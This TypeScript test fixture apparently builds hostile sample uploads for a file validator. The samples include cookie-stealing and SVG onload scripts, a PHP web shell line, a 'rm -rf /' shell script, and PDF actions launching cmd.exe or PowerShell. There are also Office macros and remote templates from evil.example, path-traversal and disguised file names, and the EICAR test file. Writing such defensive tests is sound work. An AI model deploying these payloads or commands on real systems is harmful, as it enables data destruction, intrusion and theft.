import { FILE_TYPES } from "#app/domain/papers/files/file-types.ts";
import { EICAR } from "./eicar.ts";
import { hostileArchives } from "./hostile-archives.ts";
import { closed, type HostileFile, refused } from "./hostile-file.ts";
import { box, jpegOf, movieOf, mp3Frames, mp3Tag, noise, pngOf, wavOf } from "./media-builder.ts";
import {
  compoundFile,
  contentTypes,
  docxOf,
  EXCEL_MAIN,
  fromOutside,
  WORD_MAIN,
  xlsxOf,
} from "./office-builder.ts";
import { plainPdf } from "./pdf-builder.ts";
import { zipOf } from "./zip-builder.ts";

const PAGE = "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>";
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';
const ARCHIVE = zipOf([{ name: "payload.js", data: "alert(1)" }]);
const EXE = Buffer.concat([
  Buffer.from("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0", "latin1"),
  Buffer.alloc(48),
  Buffer.from("!This program cannot be run in DOS mode.\r\r\n$\0\0PE\0\0"),
  Buffer.alloc(512, 0x90),
]);
const ELF = Buffer.concat([Buffer.from("\x7fELF\x02\x01\x01\0", "latin1"), Buffer.alloc(500)]);
const LNK = Buffer.concat([
  Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
  Buffer.alloc(60),
]);
const RAR = Buffer.concat([Buffer.from("Rar!\x1a\x07\x01\x00", "latin1"), Buffer.alloc(100)]);
const GIF = Buffer.from("GIF89a\x01\0\x01\0\x80\0\0", "latin1");
const KINDS = Object.keys(FILE_TYPES);

export function hostileFiles(): HostileFile[] {
  return [
    ...KINDS.map((kind) => refused("a web page by another name", `page.${kind}`, PAGE)),
    ...renamed(),
    ...polyglots(),
    ...pdfs(),
    ...office(),
    ...loadingMore(),
    ...olderOffice(),
    ...names(),
    ...hostileArchives(),
    ...forScanner(),
  ];
}

function renamed(): HostileFile[] {
  return [
    refused("empty", "statement.pdf"),
    refused("a picture that is a program", "drawing.svg", SVG),
    refused("such a picture by another name", "drawing.png", SVG),
    refused("such a picture as text", "drawing.txt", `\n\n  ${SVG}`),
    refused("a page after 900 spaces", "notes.txt", " ".repeat(900), PAGE),
    refused("a page after a line of text", "notes.csv", "Name,Value\n", PAGE),
    refused("a page in UTF-16", "page16.txt", Buffer.from(`\ufeff${PAGE}`, "utf16le")),
    refused("a Windows program", "setup.pdf", EXE),
    refused("a Windows program as a picture", "photo.jpg", EXE),
    refused("a Windows program as text", "readme.txt", EXE),
    refused("a Windows program as a table", "table.csv", EXE),
    refused("a Linux program as a video", "cctv.mp4", ELF),
    refused(
      "a Mac program as sound",
      "call.wav",
      Buffer.from("cffaedfe07000001", "hex"),
      Buffer.alloc(99),
    ),
    refused("a Windows shortcut as a PDF", "bundle.pdf", LNK),
    refused("a Windows shortcut", "bundle.lnk", LNK),
    refused("a shell script as text", "run.txt", "#!/bin/sh\nrm -rf /\n"),
    refused("a batch script as text", "run.csv", "@ECHO OFF\r\ndel *.*\r\n"),
    refused("a PHP script as text", "shell.txt", "<?php system($_GET['c']); ?>"),
    refused("a RAR archive as ZIP", "papers.zip", RAR),
    refused("a GIF as JPEG", "photo2.jpg", GIF, Buffer.alloc(50)),
    refused("an older Word document as email", "old.msg", compoundFile(["WordDocument", "1Table"])),
    refused("a broken compound file as email", "cut.msg", compoundFile(["x"]).subarray(0, 300)),
    refused("an AVIF as HEIC", "photo.heic", movieOf("avif", ["mif1", "avif"])),
    refused("a HEIC as video", "video.mp4", movieOf("heic", ["mif1"])),
    refused("a tag without sound", "silent.mp3", mp3Tag(), Buffer.alloc(5000)),
    refused("an AVI as WAV", "video.wav", "RIFF\x10\0\0\0AVI LIST"),
    refused("no header of an email", "mail.eml", "Hello there,\nplease find attached.\n"),
    refused("text with a program behind it", "long.txt", "word ".repeat(300_000), EXE),
    refused(
      "a JAR as ZIP",
      "tools.zip",
      zipOf([
        { name: "META-INF/MANIFEST.MF", data: "x" },
        { name: "A.class", data: "y" },
      ]),
    ),
  ];
}

function polyglots(): HostileFile[] {
  const commented = (bytes: Buffer) => zipOf([{ name: "a.txt", data: "x" }], { before: bytes });
  return [
    refused("GIF and page", "picture.png", GIF, PAGE),
    refused("JPEG whose comment is a page", "photo.jpg", jpegOf("JFIF", PAGE)),
    refused("JPEG and page behind it", "photo3.jpg", jpegOf(), PAGE),
    refused("JPEG and archive behind it", "photo4.jpg", jpegOf(), ARCHIVE),
    refused(
      "JPEG and archive with a note",
      "photo5.jpeg",
      zipOf([{ name: "a", data: "b" }], { before: jpegOf(), comment: "note" }),
    ),
    refused("JPEG and archive with bytes after", "photo6.jpg", jpegOf(), ARCHIVE, Buffer.alloc(20)),
    refused("JPEG and RAR behind it", "photo7.jpg", jpegOf(), RAR),
    refused("JPEG and program behind it", "photo8.jpg", jpegOf(), EXE),
    refused("PNG and archive behind it", "shot.png", pngOf(), ARCHIVE),
    refused("PNG and page behind it", "shot2.png", pngOf(), PAGE),
    refused("PNG and Linux program behind it", "shot3.png", pngOf(), ELF),
    refused("PDF and archive behind it", "bundle.pdf", commented(plainPdf())),
    refused(
      "PDF in the note of an archive",
      "bundle2.pdf",
      plainPdf().subarray(0, 40),
      zipOf([{ name: "a", data: "b" }], { comment: plainPdf() }),
    ),
    refused("PDF and page in it", "bundle3.pdf", "%PDF-1.7\n%", PAGE, plainPdf()),
    refused("PDF and program behind it", "bundle4.pdf", plainPdf(), EXE),
    refused("page, then PDF", "bundle5.pdf", PAGE, plainPdf()),
    refused("archive, then PDF", "bundle6.pdf", ARCHIVE, plainPdf()),
    refused("script, then PDF", "bundle8.pdf", "#!/bin/sh\nexit\n", plainPdf()),
    refused("PDF after 900 bytes", "bundle7.pdf", "x".repeat(900), plainPdf()),
    refused(
      "MP4 with a page in free space",
      "video.mp4",
      movieOf("isom").subarray(0, 24),
      box("free", Buffer.from(PAGE)),
      movieOf("isom"),
    ),
    refused("MP4 and archive behind it", "video2.mp4", movieOf("isom"), ARCHIVE),
    refused("MOV and page behind it", "video3.mov", movieOf("qt  "), PAGE),
    refused("MP3 whose tag is a page", "call.mp3", mp3Tag(400, PAGE), mp3Frames()),
    refused("MP3 and archive behind it", "call2.mp3", mp3Frames(), ARCHIVE),
    refused("WAV and archive behind it", "call3.wav", wavOf(), ARCHIVE),
    refused("M4A and program behind it", "call4.m4a", movieOf("M4A "), EXE),
    refused("program, then archive", "setup.zip", EXE, ARCHIVE),
  ];
}

function pdfs(): HostileFile[] {
  const action = (text: string) => plainPdf("/OpenAction 4 0 R", [`<< ${text} >>`]);
  return [
    closed("starts a program", "open me.pdf", action("/S /Launch /Win << /F (cmd.exe) >>")),
    closed("starts PowerShell", "open me 2.pdf", action("/S /#4caunch /F <706f7765727368656c6c>")),
    closed(
      "opens its attachment",
      "open me 3.pdf",
      plainPdf("", [
        "<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'a', nLaunch: 2}\\)) >>",
        "<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream",
      ]),
    ),
    refused("no version", "version.pdf", "%PDF-\n1 0 obj"),
  ];
}

function office(): HostileFile[] {
  const word = (main: string, more?: string) => contentTypes("/word/document.xml", main, more);
  const vba = { name: "word/vbaProject.bin", data: compoundFile(["VBA", "dir"]) };
  const macroWord = "application/vnd.ms-word.document.macroEnabled.main+xml";
  const macroExcel = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
  return [
    closed("DOCM by another name", "form.docx", docxOf(["x"], [vba], word(macroWord))),
    refused("DOCM", "form.docm", docxOf(["x"], [vba], word(macroWord))),
    closed(
      "macros under another name",
      "form2.docx",
      docxOf(
        ["x"],
        [{ name: "word/a.bin", data: "x" }],
        word(
          WORD_MAIN,
          '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      ),
    ),
    closed("macros without a word about them", "form3.docx", docxOf(["x"], [vba])),
    closed(
      "macros spelt in another way",
      "form4.docx",
      docxOf(["x"], [], word(WORD_MAIN, '<Default Extension="b" ContentType="&#118;baProject"/>')),
    ),
    closed(
      "XLSM by another name",
      "table.xlsx",
      xlsxOf([], contentTypes("/xl/workbook.xml", macroExcel)),
    ),
    closed(
      "old macros of Excel",
      "table2.xlsx",
      xlsxOf([{ name: "xl/macrosheets/sheet1.xml", data: "<x/>" }]),
    ),
    refused(
      "a workbook as document",
      "table3.docx",
      xlsxOf([], contentTypes("/xl/workbook.xml", EXCEL_MAIN)),
    ),
    closed(
      "a program in a document",
      "letter.docx",
      docxOf(["x"], [{ name: "word/embeddings/a.exe", data: EXE }]),
    ),
    refused("an archive as document", "letter2.docx", zipOf([{ name: "a.txt", data: "x" }])),
    refused("a second list of parts", "letter3.docx", docxOf(["x"], [word(macroWord)])),
    closed(
      "a bomb as document",
      "letter4.docx",
      docxOf(["x"], [{ name: "word/media/a.xml", data: Buffer.alloc(8_000_000) }]),
    ),
  ];
}

function loadingMore(): HostileFile[] {
  const named = (about: string, type: string, target: string) =>
    closed(about, `${about}.docx`, docxOf(["x"], [fromOutside(type, target)]));
  const disguised = fromOutside("attachedTemplate", "&#104;ttps://evil.example/a.dotm");
  const wide = { ...disguised, data: Buffer.from(`\ufeff${disguised.data}`, "utf16le") };
  const long = `<Default Extension="b" ContentType="${noise(600_000).toString("hex")}"/>`;
  const macros =
    '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
  const word = (more: string) => contentTypes("/word/document.xml", WORD_MAIN, more);
  return [
    named("a template from outside", "attachedTemplate", "https://evil.example/a.dotm"),
    named("a template from a server", "attachedTemplate", "file:///\\\\1.2.3.4\\a\\b.dotm"),
    named("an object from outside", "oleObject", "mhtml:https://evil.example/a.html!x-usc:b"),
    closed("a template disguised", "letter5.docx", docxOf(["x"], [disguised])),
    closed("a template in UTF-16", "letter6.docx", docxOf(["x"], [wide])),
    closed("macros after a long list", "letter7.docx", docxOf(["x"], [], word(long + macros))),
    closed("a list without end", "letter8.docx", docxOf(["x"], [], word(long.repeat(5)))),
    closed("rich text with an object", "note.rtf", "{\\rtf1 {\\object\\objemb}}"),
    closed(
      "rich text with a template",
      "note2.rtf",
      "{\\rtf1",
      " ".repeat(1024 ** 2 - 12),
      "{\\*\\template https://evil.example/a}}",
    ),
  ];
}

function olderOffice(): HostileFile[] {
  const sheetOfMacros = Buffer.from(
    "8500 0e00 00000000 0001 0600 4d6163726f31".replaceAll(" ", ""),
    "hex",
  );
  const book = compoundFile(["Workbook"]);
  sheetOfMacros.copy(book, book.length - 200);
  return [
    closed("older macros", "macros.doc", compoundFile(["WordDocument", "Macros", "_VBA_PROJECT"])),
    closed(
      "older macros under today's name",
      "macros.xlsx",
      compoundFile(["Workbook", "_VBA_PROJECT_CUR"]),
    ),
    closed("macros of Excel before 1995", "table4.xls", book),
    refused("a workbook as an older document", "table5.doc", compoundFile(["Workbook"])),
    refused("an installer as an older document", "setup.doc", compoundFile(["\u4840\u3b3f"])),
  ];
}

function names(): HostileFile[] {
  return [
    refused("reads as PDF from right to left", "report\u202efdp.exe", plainPdf()),
    refused("two endings", "statement.pdf.exe", plainPdf()),
    refused("a byte that ends names", "statement.pdf\0.exe", plainPdf()),
    refused("an ending and a dot", "statement.exe.", plainPdf()),
    refused("an ending and a space", "statement.exe ", plainPdf()),
    refused("a stream of its own", "statement.pdf:evil.exe", plainPdf()),
    refused("leads to a folder of the system", "../../../etc/passwd", "root:x:0:0\n"),
    refused("leads to a folder of Windows", "..\\..\\Windows\\win.ini", "[fonts]\n"),
    refused("an ending and a joiner", "statement.exe\u200d", plainPdf()),
    refused("a stream without a name", "statement.exe::$DATA", plainPdf()),
    refused("only an ending", ".pdf", plainPdf()),
    refused("nothing but dots", "...", plainPdf()),
    refused("no ending, long", "x".repeat(300), plainPdf()),
    refused("a long ending", `x.${"y".repeat(300)}`, plainPdf()),
    refused("an ending with a mark", "x.<script>", plainPdf()),
  ];
}

function forScanner(): HostileFile[] {
  const scanner = (about: string, name: string, bytes: Buffer): HostileFile => ({
    about,
    name,
    bytes,
    expects: "SCANNER",
  });
  const packed = docxOf([], [{ name: "word/media/eicar.txt", data: EICAR }]);
  return [
    scanner("test virus", "eicar.txt", EICAR),
    scanner("test virus, zipped", "eicar.zip", zipOf([{ name: "eicar.txt", data: EICAR }])),
    scanner(
      "test virus, in a document, zipped",
      "letters.zip",
      zipOf([{ name: "letter.docx", data: packed }]),
    ),
  ];
}
